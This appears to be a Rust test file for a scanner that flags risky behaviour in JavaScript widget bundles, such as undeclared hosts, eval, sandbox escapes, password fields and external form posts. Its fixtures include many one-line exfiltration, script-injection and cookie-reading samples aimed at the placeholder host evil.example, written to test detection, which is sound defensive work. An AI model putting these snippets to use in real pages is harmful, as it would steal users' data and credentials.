//! Each rule on a small fixture, declared hosts, a clean widget, garbage,
//! hostile nesting and a bundle of 500 KB. No I/O.

use super::destination::{DeclaredHosts, Destination, classify};
use super::markup::{self, Markup};
use super::*;
use proptest::prelude::*;

fn declared(hosts: &[&str]) -> Vec<String> {
    hosts.iter().map(|h| h.to_string()).collect()
}

fn findings(source: &str, hosts: &[&str]) -> Vec<Finding> {
    analyse(source, &declared(hosts))
}

fn rules(source: &str, hosts: &[&str]) -> Vec<Rule> {
    findings(source, hosts)
        .into_iter()
        .map(|f| f.rule)
        .collect()
}

/// The only finding of `source`, with no declared hosts.
fn only(source: &str) -> Finding {
    let found = findings(source, &[]);
    assert_eq!(found.len(), 1, "{source}: {found:#?}");
    found.into_iter().next().unwrap()
}

fn assert_rule(source: &str, rule: Rule) {
    assert_eq!(rules(source, &[]), vec![rule], "{source}");
}

fn assert_clean(source: &str, hosts: &[&str]) {
    let found = findings(source, hosts);
    assert!(found.is_empty(), "{source}: {found:#?}");
}

// --- parse_error -----------------------------------------------------------

#[test]
fn a_bundle_that_does_not_parse_is_a_high_finding_at_the_error() {
    let finding = only("const a = 1;\nconst b = ;\n");
    assert_eq!(finding.rule, Rule::ParseError);
    assert_eq!(finding.severity, Severity::High);
    assert_eq!((finding.line, finding.column), (2, 11));
    assert!(
        finding.message.starts_with("not valid JavaScript"),
        "{finding:?}"
    );
}

#[test]
fn a_broken_bundle_still_shows_what_it_was_trying_to_do() {
    let found = rules("eval(x);\nconst = ;", &[]);
    assert!(found.contains(&Rule::ParseError), "{found:?}");
}

#[test]
fn sloppy_scripts_and_modules_both_parse() {
    assert_clean("with (o) { x = 010; }", &[]);
    assert_clean(
        "import { h } from './h.js';\nexport const x = await h();",
        &[],
    );
    assert_clean("<!-- an old-style comment\nvar a = 1;", &[]);
}

#[test]
fn an_empty_bundle_has_no_findings() {
    assert_clean("", &[]);
}

// --- network_undeclared_host / network_unknown_destination -----------------

#[test]
fn fetch_to_an_undeclared_host_is_high_at_the_call() {
    let finding =
        only("const x = 1;\n  fetch('https://evil.example/collect', {method: 'POST'});\n");
    assert_eq!(finding.rule, Rule::NetworkUndeclaredHost);
    assert_eq!(finding.severity, Severity::High);
    assert_eq!((finding.line, finding.column), (2, 3));
    assert!(finding.message.contains("evil.example"), "{finding:?}");
}

#[test]
fn every_kind_of_request_to_an_undeclared_host_is_found() {
    for source in [
        "fetch('https://evil.example/x')",
        "window.fetch(`https://evil.example/x`)",
        "globalThis.fetch(new Request('https://evil.example/x'))",
        "const x = new XMLHttpRequest(); x.open('POST', 'https://evil.example/x');",
        "new WebSocket('wss://evil.example/socket')",
        "new EventSource('https://evil.example/events')",
        "navigator.sendBeacon('https://evil.example/b', data)",
        "import('https://evil.example/module.js')",
        "import x from 'https://evil.example/module.js'; x();",
        "export * from 'https://evil.example/module.js';",
        "importScripts('https://evil.example/worker.js')",
        "window.open('https://evil.example/login')",
        "const s = document.createElement('script'); s.src = 'https://evil.example/a.js';",
        "const i = new Image(); i.src = 'https://evil.example/pixel.gif?d=' + data;",
        "el.setAttribute('src', 'https://evil.example/a.js')",
        "root.innerHTML = '<img src=\"https://evil.example/p.gif\">';",
        "document.write(`<script src='https://evil.example/a.js'></script>`)",
        "h('img', {src: 'https://evil.example/p.gif'})",
        "fetch(new URL('/collect', 'https://evil.example'))",
    ] {
        assert_eq!(
            rules(source, &[]),
            vec![Rule::NetworkUndeclaredHost],
            "{source}"
        );
        assert_clean(source, &["evil.example"]);
    }
}

#[test]
fn the_host_is_read_as_a_browser_reads_it() {
    for (url, host) in [
        ("https://EVIL.example./x", "evil.example"),
        ("//evil.example/x", "evil.example"),
        ("\\\\evil.example/x", "evil.example"),
        ("https:evil.example/x", "evil.example"),
        ("https:///evil.example/x", "evil.example"),
        ("https://api.example.com@evil.example/x", "evil.example"),
        ("https://evil.example:8443/x", "evil.example"),
        ("https://%65vil.example/x", "evil.example"),
        ("  https://evil.example", "evil.example"),
        ("ht\ttps://evil.example/", "evil.example"),
        ("https://[::1]:8080/", "[::1]"),
    ] {
        assert_eq!(
            classify(url, true),
            Destination::Host(host.to_owned()),
            "{url:?}"
        );
    }
}

#[test]
fn relative_and_local_urls_stay_on_the_page() {
    for url in [
        "/api/data",
        "api/data",
        "./x",
        "../x",
        "?q=1",
        "#top",
        "",
        "data:text/plain,hi",
        "blob:https://evil.example/uuid",
        "javascript:void 0",
        "about:blank",
        "mailto:a@b.c",
    ] {
        assert_eq!(classify(url, true), Destination::Local, "{url:?}");
    }
}

#[test]
fn a_prefix_decides_only_when_the_host_is_finished() {
    for (prefix, expected) in [
        (
            "https://api.example.com/",
            Destination::Host("api.example.com".to_owned()),
        ),
        (
            "https://api.example.com?q=",
            Destination::Host("api.example.com".to_owned()),
        ),
        // `.evil.example` could follow.
        ("https://api.example.com", Destination::Unknown),
        ("https://", Destination::Unknown),
        ("http", Destination::Unknown),
        ("", Destination::Unknown),
        // `/evil.example` could follow.
        ("/", Destination::Unknown),
        ("/api/", Destination::Local),
        ("api/", Destination::Local),
        ("data:", Destination::Local),
    ] {
        assert_eq!(classify(prefix, false), expected, "{prefix:?}");
    }
}

#[test]
fn a_url_computed_at_run_time_is_a_medium_unknown_destination() {
    for source in [
        "fetch(url)",
        "fetch('https://' + host + '/x')",
        "fetch('https://api.example.com' + path)",
        "fetch('/' + path)",
        "new WebSocket(config.socket)",
        "import(name)",
        "const s = document.createElement('script'); s.src = cdn + '/a.js';",
        "const f = document.createElement('form'); f.action = target;",
        "el.innerHTML = `<script src=\"${cdn}/a.js\"></script>`;",
    ] {
        let found = findings(source, &["api.example.com"]);
        assert_eq!(found.len(), 1, "{source}: {found:#?}");
        assert_eq!(found[0].rule, Rule::NetworkUnknownDestination, "{source}");
        assert_eq!(found[0].severity, Severity::Medium, "{source}");
    }
}

#[test]
fn constants_and_templates_fix_the_host() {
    let source = "const API = 'https://api.example.com';\n\
                  const EVIL = `https://evil.example`;\n\
                  function load(id) { return fetch(`${API}/v1/items/${id}`); }\n\
                  function leak(d) { return fetch(EVIL + '/c?d=' + d); }\n";
    let found = findings(source, &["api.example.com"]);
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].rule, Rule::NetworkUndeclaredHost);
    assert_eq!(found[0].line, 4);
}

#[test]
fn a_reassigned_variable_is_not_a_constant() {
    let source = "var base = 'https://api.example.com'; base = other; fetch(base + '/x');";
    assert_eq!(
        rules(source, &["api.example.com"]),
        vec![Rule::NetworkUnknownDestination]
    );
}

#[test]
fn constants_that_refer_to_each_other_end() {
    let source = "var a = b + '/x', b = a + '/y'; fetch(a);";
    assert_eq!(rules(source, &[]), vec![Rule::NetworkUnknownDestination]);
}

#[test]
fn requests_to_the_pages_own_origin_are_not_reported() {
    assert_clean(
        "fetch('/api/data'); fetch('api/' + id); new WebSocket('/socket');\n\
         const i = new Image(); i.src = 'data:image/gif;base64,R0lGOD';\n\
         img.src = avatarUrl;",
        &[],
    );
}

#[test]
fn declared_hosts_are_exact_names_wildcards_or_urls() {
    let hosts = DeclaredHosts::new(&declared(&[
        " API.Example.com ",
        "*.cdn.example",
        "https://data.example.org:8443/v1",
        "",
    ]));
    assert!(hosts.allows("api.example.com"));
    assert!(hosts.allows("eu.cdn.example"));
    assert!(!hosts.allows("cdn.example"));
    assert!(!hosts.allows("evilcdn.example"));
    assert!(hosts.allows("data.example.org"));
    assert!(!hosts.allows("example.com"));
    assert!(!hosts.allows("api.example.com.evil.example"));
}

#[test]
fn a_local_fetch_is_not_the_browsers() {
    assert_clean(
        "function f(fetch) { fetch('https://evil.example'); }\n\
         const api = { fetch(u) { return u; } }; api.fetch('https://evil.example');\n\
         db.open('name', 2); indexedDB.open('https://not-a-request');",
        &[],
    );
}

#[test]
fn an_open_with_a_computed_method_is_a_request_only_where_xhr_is_used() {
    let open = "x.open(method, 'https://evil.example/x');";
    assert_clean(open, &[]);
    assert_eq!(
        rules(&format!("const x = new XMLHttpRequest();\n{open}"), &[]),
        vec![Rule::NetworkUndeclaredHost]
    );
}

// --- sandbox_escape / cross_frame_message ------------------------------------

#[test]
fn reaching_the_embedding_page_is_a_sandbox_escape() {
    for source in [
        "window.top.location = 'x'",
        "if (top !== self) {}",
        "parent.document.body",
        "window.parent.x",
        "opener.location",
        "window.opener = null",
        "self.frameElement",
        "const w = window; w.top",
        "document.cookie",
        "window.document.cookie = 'a=b'",
        "document.domain = 'example.com'",
        "const d = document; d['cookie']",
    ] {
        let found = findings(source, &[]);
        assert!(!found.is_empty(), "{source}");
        assert!(
            found.iter().all(|f| f.rule == Rule::SandboxEscape),
            "{source}: {found:#?}"
        );
    }
}

#[test]
fn a_sandbox_escape_is_found_where_it_is() {
    let finding = only("render();\n\n    var c = document.cookie;");
    assert_eq!(finding.rule, Rule::SandboxEscape);
    assert_eq!((finding.line, finding.column), (3, 13));
}

#[test]
fn local_names_like_parent_and_top_are_not_frames() {
    assert_clean(
        "function widget(el, tree) {\n\
           function insert(parent, node) { parent.appendChild(node); return node.parent; }\n\
           const { top, left } = el.getBoundingClientRect();\n\
           const opener = () => 1; opener();\n\
           return tree.top.parent.cookie;\n\
         }",
        &[],
    );
}

#[test]
fn posting_a_message_to_the_parent_is_low_and_no_escape() {
    for source in [
        "parent.postMessage({ height: 100 }, '*')",
        "window.parent.postMessage(msg, origin)",
        "top.postMessage(1, '*')",
    ] {
        let finding = only(source);
        assert_eq!(finding.rule, Rule::CrossFrameMessage, "{source}");
        assert_eq!(finding.severity, Severity::Low);
    }
}

// --- eval / new_function -----------------------------------------------------

#[test]
fn eval_in_every_spelling_is_high() {
    for source in [
        "eval('1 + 1')",
        "(0, eval)(code)",
        "const e = eval; e(code);",
        "window.eval(code)",
        "globalThis['eval'](code)",
        "setTimeout('tick()', 100)",
        "setInterval(`step(${n})`, 100)",
    ] {
        let finding = only(source);
        assert_eq!(finding.rule, Rule::Eval, "{source}");
        assert!(finding.is_high());
    }
    assert_clean("setTimeout(tick, 100); setTimeout(() => step(1), 5);", &[]);
}

#[test]
fn new_function_and_function_calls_are_high() {
    let finding = only("const add = 1;\nconst f = new Function('a', 'b', 'return a + b');");
    assert_eq!(finding.rule, Rule::NewFunction);
    assert_eq!((finding.line, finding.column), (2, 11));
    assert_rule("Function('return this')()", Rule::NewFunction);
    assert_rule("new window.Function('x')", Rule::NewFunction);
    assert_clean(
        "if (x instanceof Function) { Function.prototype.call.bind(y); }\n\
         function g(Function) { return new Function(); }",
        &[],
    );
}

// --- password_input / external_form_post -----------------------------------

#[test]
fn password_fields_are_high_however_made() {
    for source in [
        "const i = document.createElement('input'); i.type = 'password';",
        "input.setAttribute('type', 'Password')",
        "root.innerHTML = '<label>PIN <input name=pin type=\"password\"></label>';",
        "el.insertAdjacentHTML('beforeend', `<input type='password' name=${n}>`)",
        "jsx('input', { type: 'password', name: 'pw' })",
    ] {
        let finding = only(source);
        assert_eq!(finding.rule, Rule::PasswordInput, "{source}");
        assert!(finding.is_high());
    }
    assert_clean(
        "i.type = 'text'; x = '<input type=text>'; y = {type: 'submit'};",
        &[],
    );
}

#[test]
fn forms_that_post_to_an_undeclared_host_are_high() {
    for source in [
        "form.action = 'https://evil.example/login'",
        "f.setAttribute('action', '//evil.example/login')",
        "button.formAction = 'https://evil.example/x'",
        "root.innerHTML = '<form method=post action=\"https://evil.example/login\">';",
        "root.innerHTML = '<form action=\"https&colon;&sol;&sol;evil.example/x\">';",
        "root.innerHTML = '<button formaction=https://evil.example/x>go</button>';",
        "h('form', { action: 'https://evil.example/login' })",
    ] {
        let finding = only(source);
        assert_eq!(finding.rule, Rule::ExternalFormPost, "{source}");
        assert!(finding.is_high());
        assert_clean(source, &["evil.example"]);
    }
    assert_clean(
        "form.action = '/submit'; store.action = next; dispatch({ type: 'x', action: 'y' });\n\
         x = '<form action=\"/search\">';",
        &[],
    );
}

#[test]
fn markup_is_scanned_for_what_matters() {
    assert_eq!(
        markup::scan("<div><INPUT\ttype = password /><form action='https://a.example/x'></form>"),
        vec![
            Markup::PasswordInput,
            Markup::FormAction {
                url: "https://a.example/x".to_owned(),
                complete: true
            },
        ]
    );
    assert_eq!(
        markup::scan(&format!(
            "<script src=\"https://cdn.example/{}\">",
            markup::HOLE
        )),
        vec![Markup::Source {
            tag: "script".to_owned(),
            url: "https://cdn.example/".to_owned(),
            complete: false
        }]
    );
    assert_eq!(markup::scan("a < b && c <d"), vec![]);
    assert_eq!(
        markup::scan("<img src=\"https://x"),
        vec![Markup::Source {
            tag: "img".to_owned(),
            url: "https://x".to_owned(),
            complete: false
        }]
    );
}

// --- the whole ---------------------------------------------------------------

/// A small widget as a developer would ship it: renders into the element
/// it is given, talks only to its declared API, tells the parent its size.
const CLEAN_WIDGET: &str = r#"(function () {
  "use strict";
  var API = "https://api.weather.example/v1";
  function h(tag, attrs, children) {
    var el = document.createElement(tag);
    Object.keys(attrs || {}).forEach(function (k) {
      if (k === "class") el.className = attrs[k];
      else el.setAttribute(k, attrs[k]);
    });
    (children || []).forEach(function (c) {
      el.appendChild(typeof c === "string" ? document.createTextNode(c) : c);
    });
    return el;
  }
  function render(root, data) {
    root.textContent = "";
    root.appendChild(
      h("div", { class: "wx" }, [
        h("span", { class: "wx-temp" }, [Math.round(data.temp) + "\u00b0"]),
        h("img", { alt: data.summary, src: "/static/icons/" + data.icon + ".svg" }),
      ])
    );
  }
  async function load(root, city) {
    const res = await fetch(`${API}/current?city=${encodeURIComponent(city)}`, {
      headers: { accept: "application/json" },
    });
    if (!res.ok) throw new Error("weather " + res.status);
    render(root, await res.json());
  }
  const root = document.getElementById("widget-root");
  const city = root.dataset.city || "Oslo";
  load(root, city).catch(function (e) {
    root.textContent = "unavailable";
    console.error(e);
  });
  setInterval(function () { load(root, city); }, 10 * 60 * 1000);
})();
"#;

#[test]
fn a_clean_widget_using_only_its_declared_host_has_no_findings() {
    assert_clean(CLEAN_WIDGET, &["api.weather.example"]);
    let undeclared = findings(CLEAN_WIDGET, &[]);
    assert_eq!(
        undeclared.iter().map(|f| f.rule).collect::<Vec<_>>(),
        vec![Rule::NetworkUndeclaredHost]
    );
    assert_eq!(undeclared[0].line, 25);
}

#[test]
fn findings_come_in_source_order_with_columns_in_utf16_units() {
    let found = findings(
        "eval(a);\n\"😀\";fetch('https://evil.example/');\rtop;",
        &[],
    );
    let at: Vec<_> = found.iter().map(|f| (f.rule, f.line, f.column)).collect();
    assert_eq!(
        at,
        vec![
            (Rule::Eval, 1, 1),
            (Rule::NetworkUndeclaredHost, 2, 6),
            (Rule::SandboxEscape, 3, 1),
        ]
    );
}

#[test]
fn each_rule_keeps_at_most_its_cap_of_findings() {
    let source = "eval(x);\n".repeat(MAX_FINDINGS_PER_RULE * 3) + "top;";
    let found = findings(&source, &[]);
    let evals = found.iter().filter(|f| f.rule == Rule::Eval).count();
    assert_eq!(evals, MAX_FINDINGS_PER_RULE);
    assert_eq!(found.last().map(|f| f.rule), Some(Rule::SandboxEscape));
    assert_eq!(
        found[MAX_FINDINGS_PER_RULE - 1].line,
        MAX_FINDINGS_PER_RULE as u32
    );
}

#[test]
fn findings_serialise_with_snake_case_names() {
    let finding = only("new Function('x')");
    let json = serde_json::to_value(&finding).unwrap();
    assert_eq!(json["rule"], "new_function");
    assert_eq!(json["severity"], "high");
    assert_eq!(json["line"], 1);
    assert_eq!(json["column"], 1);
    let back: Finding = serde_json::from_value(json).unwrap();
    assert_eq!(back, finding);
    assert_eq!(
        serde_json::to_value(Rule::NetworkUnknownDestination).unwrap(),
        "network_unknown_destination"
    );
}

#[test]
fn only_a_high_finding_holds_a_version_for_review() {
    assert!(!has_high(&findings(
        "fetch(url); parent.postMessage(1, '*');",
        &[]
    )));
    assert!(has_high(&findings("fetch(url); eval(x);", &[])));
    assert!(!has_high(&[]));
}

#[test]
fn hostile_nesting_is_a_finding_not_a_crash() {
    // Far deeper than any test thread's stack would survive unguarded.
    for source in [
        "[".repeat(50_000),
        "(".repeat(20_000) + "1" + &")".repeat(20_000),
        "!".repeat(50_000) + "x",
        "x=>".repeat(20_000) + "1",
        "a.b".to_owned() + &".b".repeat(50_000),
        "a = ".repeat(20_000) + "document.createElement('script')",
    ] {
        let found = findings(&source, &[]);
        assert!(found.len() <= 1, "{found:#?}");
        if let Some(finding) = found.first() {
            assert_eq!(finding.rule, Rule::ParseError);
        }
    }
}

/// About 500 KB of ordinary minified-looking code with one undeclared
/// request near the end.
fn large_bundle() -> String {
    let mut source = String::from("const API='https://api.example.com';\n");
    let mut i = 0;
    while source.len() < 500_000 {
        source.push_str(&format!(
            "function f{i}(a,b){{const c=document.createElement('div');\
             c.className='w{i}';c.textContent=String(a+b*{i});\
             for(let k=0;k<b;k++){{if(k%3===0)continue;a+=k*{i}}}\
             return fetch(`${{API}}/v1/items/{i}?a=${{a}}`).then(r=>r.json())\
             .then(j=>{{c.dataset.v=j.v;return c}})}}\n"
        ));
        i += 1;
    }
    source.push_str("navigator.sendBeacon('https://evil.example/b',JSON.stringify(f0(1,2)));\n");
    source
}

#[test]
fn a_500_kb_bundle_is_analysed_with_the_expected_findings() {
    let source = large_bundle();
    assert!(source.len() >= 500_000);
    let started = std::time::Instant::now();
    let found = findings(&source, &["api.example.com"]);
    // Read with `cargo test --release --lib bundles::analyse -- --nocapture`.
    eprintln!("analysed {} bytes in {:?}", source.len(), started.elapsed());
    assert_eq!(
        found.iter().map(|f| f.rule).collect::<Vec<_>>(),
        vec![Rule::NetworkUndeclaredHost]
    );
    assert_eq!(found[0].line as usize, source.lines().count());
}

/// Fragments of JavaScript that the rules look at, to be shuffled into
/// sequences that are sometimes valid and mostly not.
fn fragments() -> impl Strategy<Value = String> {
    let fragment = prop::sample::select(vec![
        "fetch(",
        "'https://evil.example/'",
        "`${",
        "}`",
        "(",
        ")",
        "[",
        "]",
        "{",
        "}",
        ",",
        ";",
        "+",
        "=",
        "=>",
        "x",
        "window",
        ".",
        "top",
        "parent",
        "document",
        "cookie",
        "eval",
        "new ",
        "Function",
        "import(",
        "'<input type=password>'",
        "\"<form action=",
        "'//h/'",
        "const ",
        "var ",
        "function ",
        "return ",
        "\n",
        "\u{2028}",
        "😀",
        "\\",
        "/*",
        "*/",
        "//",
        "/re/g",
        "'",
        "\"",
        "`",
        "setAttribute('src',",
        "src",
        ".src=",
        "0x",
    ]);
    prop::collection::vec(fragment, 0..60).prop_map(|parts| parts.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_text_gives_findings_with_real_positions(source in any::<String>()) {
        check_positions(&source);
    }

    #[test]
    fn any_shuffle_of_javascript_gives_findings_with_real_positions(source in fragments()) {
        check_positions(&source);
    }
}

fn check_positions(source: &str) {
    let lines = source.split(['\n', '\r', '\u{2028}', '\u{2029}']).count() as u32;
    for finding in analyse(source, &declared(&["h"])) {
        assert!(
            finding.line >= 1 && finding.line <= lines.max(1),
            "{finding:?}"
        );
        assert!(finding.column >= 1, "{finding:?}");
        assert_eq!(finding.severity, finding.rule.severity());
    }
}
